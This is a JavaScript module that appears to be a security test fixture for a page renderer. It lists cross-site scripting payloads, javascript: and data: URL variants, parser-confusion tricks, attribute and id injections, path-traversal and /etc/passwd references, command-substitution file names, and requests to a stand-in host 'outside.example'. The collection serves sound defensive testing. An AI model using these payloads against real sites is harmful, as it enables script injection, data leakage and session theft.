// What attackers write. Out: kinds of payload as functions of a number, so that what ran can be named; all on one line.
// A payload that runs calls hit(number); one that leaves the origin asks OUTSIDE for something.

/** A host that no page may ask: the request itself is what is looked for. */
export const OUTSIDE = 'outside.example';

const image = (n) => `<img src=x onerror=hit(${n})>`;
const script = (n) => `<script>hit(${n})</script>`;

/** Texts, for every place that text may stand in. */
export const TEXTS = [
  script,
  (n) => `<SCRIPT/x>hit(${n})</SCRIPT>`,
  (n) => `<scr<script>ipt>hit(${n})</scr</script>ipt>`,
  (n) => `<script src=//${OUTSIDE}/${n}></script>`,
  (n) => `<script\x0csrc=//${OUTSIDE}/${n}></script>`.replace('\x0c', ' '),
  image,
  (n) => `<img src=//${OUTSIDE}/${n}>`,
  (n) => `<img srcset="//${OUTSIDE}/${n} 1x">`,
  (n) => `<svg/onload=hit(${n})>`,
  (n) => `<svg><script>hit(${n})</script></svg>`,
  (n) => `<body onload=hit(${n})>`,
  (n) => `<details open ontoggle=hit(${n})>x</details>`,
  (n) => `<video><source onerror=hit(${n})></video>`,
  (n) => `<audio src=x onerror=hit(${n})></audio>`,
  (n) => `<input autofocus onfocus=hit(${n})>`,
  (n) => `<marquee onstart=hit(${n})>x</marquee>`,
  (n) => `<x onpointerenter=hit(${n}) style=position:fixed;inset:0;z-index:9>x</x>`,
  (n) => `<a href="java&#9;script:hit(${n})">x</a>`,
  (n) => `<a href=javascript:hit(${n}) accesskey=x>x</a>`,
  (n) => `<form action=javascript:hit(${n})><button>x</button></form>`,
  (n) => `<button formaction=javascript:hit(${n})>x</button>`,
  (n) => `<form id=jiangyi><input name=store><input name=search></form>${n}`,
  (n) => `<iframe srcdoc="<script>parent.hit(${n})</script>"></iframe>`,
  (n) => `<iframe src=javascript:parent.hit(${n})></iframe>`,
  (n) => `<iframe src=//${OUTSIDE}/${n}></iframe>`,
  (n) => `<object data=javascript:hit(${n})></object>`,
  (n) => `<embed src=//${OUTSIDE}/${n}>`,
  (n) => `<base href=//${OUTSIDE}/${n}/>`,
  (n) => `<meta http-equiv=refresh content="0;url=http://${OUTSIDE}/${n}">`,
  (n) => `<link rel=stylesheet href=//${OUTSIDE}/${n}>`,
  (n) => `<link rel=preload as=image href=//${OUTSIDE}/${n}>`,
  (n) => `<style>@import '//${OUTSIDE}/${n}';</style>`,
  (n) => `<p style="background:url(//${OUTSIDE}/${n})">x</p>`,
  (n) => `<svg><a xlink:href="javascript:hit(${n})"><text y=20>x</text></a></svg>`,
  (n) => `<svg><a><set attributeName=href to=javascript:hit(${n})><text y=20>x</text></a></svg>`,
  (n) => `<svg><animate onbegin=hit(${n}) attributeName=x dur=1s></svg>`,
  (n) => `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href=1 onerror=hit(${n}) /></svg>#x"></svg>`,
  (n) => `<svg><foreignObject><iframe srcdoc="<script>parent.hit(${n})</script>"></iframe></foreignObject></svg>`,
  (n) => `<math><annotation-xml encoding="text/html"><img src=x onerror=hit(${n})></annotation-xml></math>`,
  (n) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hit(${n})&gt;">`,
  (n) => `<noscript><p title="</noscript><img src=x onerror=hit(${n})>"></noscript>`,
  (n) => `<textarea></textarea>${image(n)}<textarea>`,
  (n) => `</title>${script(n)}`,
  (n) => `</textarea></style></script>${image(n)}`,
  (n) => `<template>${image(n)}</template>`,
  (n) => `<plaintext>${image(n)}`,
  (n) => `<xmp><p title="</xmp>${image(n)}">`,
  (n) => `<!-- --!>${image(n)}`,
  (n) => `--!>${image(n)}`,
  (n) => `<!--><script>hit(${n})</script>-->`,
  (n) => `]]>${script(n)}`,
  (n) => `<![CDATA[${script(n)}]]>`,
  (n) => `<?xml-stylesheet href="//${OUTSIDE}/${n}"?>${image(n)}`,
  (n) => `">${image(n)}`,
  (n) => `'>${image(n)}`,
  (n) => `" onmouseover="hit(${n})" autofocus tabindex="0" onfocus="hit(${n})" x="`,
  (n) => `' onmouseover='hit(${n})' autofocus tabindex='0' onfocus='hit(${n})`,
  (n) => `\` onmouseover=hit(${n}) autofocus tabindex=0 onfocus=hit(${n}) \``,
  (n) => `x onmouseover=hit(${n}) autofocus tabindex=0 onfocus=hit(${n})`,
  (n) => `</script>${script(n)}`,
  (n) => `");hit(${n})//`,
  (n) => `');hit(${n})//`,
  (n) => `\u2028hit(${n})\u2028`,
  (n) => `\${hit(${n})}`,
  (n) => `{{ hit(${n}) }}{% include "/etc/passwd" %}{{ config }}{{ "<b>" | safe }}`,
  (n) => `&lt;img src=x onerror=hit(${n})&gt;`,
  (n) => `&#60;img src=x onerror=hit(${n})&#62;`,
  (n) => `&amp;lt;img src=x onerror=hit(${n})&amp;gt;`,
  (n) => `\\x3cimg src=x onerror=hit(${n})\\x3e \\u003cimg src=x onerror=hit(${n})\\u003e`,
  (n) => `%3Cimg src=x onerror=hit(${n})%3E`,
  (n) => `＜img src=x onerror=hit(${n})＞`,
  (n) => `<sub onclick=hit(${n})>x</sub><br onload=hit(${n})><sub/onclick=hit(${n})>x</sub>`,
  (n) => `<ruby><rt onfocus=hit(${n}) tabindex=0>x</rt></ruby>`,
  (n) => `__proto__ constructor toString hit(${n})`,
];

/** Addresses, for every place that leads somewhere. */
export const ADDRESSES = [
  'javascript:hit(§)', 'JaVaScRiPt:hit(§)', 'javascript:hit(§)//http://a.example', '&#106;avascript:hit(§)', '&#x6Aavascript:hit(§)',
  '&#x6A;avascript:hit(§)', '&#0000106avascript:hit(§)', 'javascript&colon;hit(§)', 'java&Tab;script:hit(§)', 'java&NewLine;script:hit(§)',
  '&#1;javascript:hit(§)', '&#32;javascript:hit(§)', '&#xA0;javascript:hit(§)', 'javascript&#65534;:hit(§)', 'java&#0;script:hit(§)',
  'java&shy;script:hit(§)', '%6aavascript:hit(§)', 'java%0ascript:hit(§)', 'javascript%3ahit(§)', '\\j\\a\\vascript:hit(§)', '\\javascript:hit(§)',
  'ｊavascript:hit(§)', 'javascript：hit(§)', 'vbscript:hit(§)', 'livescript:hit(§)', 'data:text/html,<script>parent.hit(§)</script>',
  'data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaGl0KDEpPC9zY3JpcHQ+', 'data:image/svg+xml,<svg/onload=hit(§)>', 'data:,hit(§)', 'blob:hit(§)',
  'file:///etc/passwd', 'view-source:hit(§)', 'ms-msdt:hit(§)', 'about:blank#§', 'filesystem:hit(§)', 'jar:hit(§)!/', 'feed:javascript:hit(§)',
  `//${OUTSIDE}/§`, `/\\${OUTSIDE}/§`, `\\\\${OUTSIDE}\\§`, `/&#9;/${OUTSIDE}/§`, `http:${OUTSIDE}/§`, `https:/${OUTSIDE}/§`, `http:\\\\${OUTSIDE}\\§`,
  `http://a.example@${OUTSIDE}/§`, `https://${OUTSIDE}/§"onmouseover=hit(§)`, 'x"onmouseover="hit(§)', "x'onfocus='hit(§)'autofocus='",
  'mailto:a@b.example?subject=x%0d%0abcc:c@d.example', 'mailto:a@b.example"onfocus="hit(§)', 'tel:1"onfocus="hit(§)', '../../../../etc/passwd', '..%2f..%2fetc%2fpasswd', '#"onfocus="hit(§)',
  '<javascript:hit(§)>', '<java\tscript:hit(§)>', '<data:text/html,hit(§)>',
].map((address) => (n) => address.replaceAll('§', String(n)));

/** What a heading's attributes may try. */
export const ATTRIBUTES = [
  (n) => `{onclick=hit(${n}) tabindex=0 autofocus onfocus=hit(${n})}`,
  (n) => `{style=background:url(//${OUTSIDE}/${n})}`,
  (n) => `{#x${n}" onfocus="hit(${n})" autofocus tabindex="0}`,
  (n) => `{#x${n}'onfocus=hit(${n})}`,
  (n) => `{.a${n}" onmouseover="hit(${n})}`,
  (n) => `{srcdoc="${image(n)}"}`,
  (n) => `{#a${n}\u000conclick=hit(${n})}`,
  (n) => `{id="b${n}\\" onfocus=hit(${n}) x"}`,
  (n) => `{#c${n} is=x onclick}`,
  (n) => `{.jiangyi${n} #d${n} data-later=//${OUTSIDE}/${n}}`,
];

/** Ids that scripts or browsers could mistake for something of their own. */
export const IDS = ['jiangyi', 'location', 'forms', 'body', 'cookie', '__proto__', 'constructor', 'toString', 'hasOwnProperty', 'top', 'parent', 'self', 'name', 'domain', 'URL',
  'getElementById', 'currentScript', '_main', '_search', '_q', '_found', '_notice', '_unkept', '_citation', '_level', '_slides', 'localStorage', 'alert', 'fn-1', 'fnref-1', '_fn-1'];

/** Names of files and folders, as far as a disk can have them. */
export const NAMES = [
  (n) => `' onerror=hit(${n}) x='`, (n) => `&#x22;&#62;${n}`, (n) => `%22%3E%3Cimg src=x onerror=hit(${n})%3E`, (n) => `javascript%3Ahit(${n})`, (n) => `{{ hit(${n}) }}`,
  (n) => `a#b${n}`, (n) => `a%2e%2e%2f${n}`, (n) => `a&b;c${n}`, (n) => `--help${n}`, (n) => `$(hit ${n})`, (n) => `\`hit ${n}\``, (n) => `a\u00a0onload=hit(${n})`,
];
